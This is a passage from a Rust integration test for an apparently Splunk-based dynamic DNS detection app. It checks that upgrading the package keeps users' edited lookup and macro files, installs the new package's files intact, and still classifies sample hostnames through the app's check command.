            "query,provider,dyndns_zone,dyndns_category,dyndns_tier,firstTime,lastTime,count\n\
             x.duckdns.org,DuckDNS,duckdns.org,ddns,core,1700000000,1700003600,3\n",
        ),
        ("local/macros.conf", "[dynamicdns_allowlist]\ndefinition = search NOT src=10.0.0.1\n"),
    ];
    for (file, text) in edits {
        std::fs::create_dir_all(app.join(file).parent().unwrap()).unwrap();
        std::fs::write(app.join(file), text).unwrap();
    }
    for f in USER_LOOKUPS {
        assert!(
            edits.iter().any(|(e, _)| *e == format!("lookups/{f}")),
            "the test edits lookups/{f}"
        );
    }

    // Install the new package over it, as Splunk does.
    unpack_over(&tgz, &home.home.join("etc/apps"));

    let mut problems = Vec::new();
    for (file, text) in edits {
        match std::fs::read_to_string(app.join(file)) {
            Ok(now) if now == *text => {}
            Ok(now) => problems.push(format!("{file} changed by the upgrade: {now:?}")),
            Err(e) => problems.push(format!("{file} lost by the upgrade: {e}")),
        }
    }
    // Every file of the new package is installed, with the package's bytes.
    let fresh = scratch.0.join("fresh");
    std::fs::create_dir_all(&fresh).unwrap();
    unpack_over(&tgz, &fresh);
    let packaged = files_under(&fresh.join(APP));
    for f in &packaged {
        if std::fs::read(fresh.join(APP).join(f)).ok() != std::fs::read(app.join(f)).ok() {
            problems.push(format!("{} is not the new package's", f.display()));
        }
        if let Some(name) = f.strip_prefix("lookups").ok().and_then(|n| n.to_str()) {
            if USER_LOOKUPS.contains(&name) {
                problems.push(format!("the package ships lookups/{name}, a file users edit"));
            }
        }
    }
    assert!(packaged.iter().any(|f| f == Path::new("default/data/ui/nav/default.xml")));
    // The installed app is the new version plus the user's files only.
    let expected: Vec<PathBuf> = {
        let mut v: Vec<PathBuf> = packaged.clone();
        v.extend(edits.iter().map(|(f, _)| PathBuf::from(f)));
        v.sort();
        v
    };
    assert_eq!(files_under(&app), expected, "installed files after the upgrade");
    assert!(problems.is_empty(), "{}", problems.join("\n"));

    // The 0.1.0 user's rows still take effect after the upgrade (the
    // binary reads the pre-0.2 names, with a deprecation warning), and so
    // do the rows of the new files.
    let out = Command::new(app.join("bin/dynamicdns.sh"))
        .args([
            "check",
            "a.corp-dyn.example",
            "ok.duckdns.org",
            "x.duckdns.org",
            "a.new-dyn.example",
            "vpn.corp.duckdns.org",
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "check: {}", String::from_utf8_lossy(&out.stderr));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("dynamic_dns_providers_local.csv: old file name")
            && err.contains("dynamic_dns_allowlist.csv: old file name"),
        "{err}"
    );
    let rows = parse_csv(&out.stdout);
    let verdict: Vec<(&str, &str, &str)> = rows
        .iter()
        .map(|r| (r["value"].as_str(), r["isDynDNS"].as_str(), r["provider"].as_str()))
        .collect();
    assert_eq!(
        verdict,
        [
            ("a.corp-dyn.example", "True", "Corp DDNS"),
            ("ok.duckdns.org", "False", ""),
            ("x.duckdns.org", "True", "DuckDNS"),
            ("a.new-dyn.example", "True", "New DDNS"),
            ("vpn.corp.duckdns.org", "False", ""),
        ]
    );
}
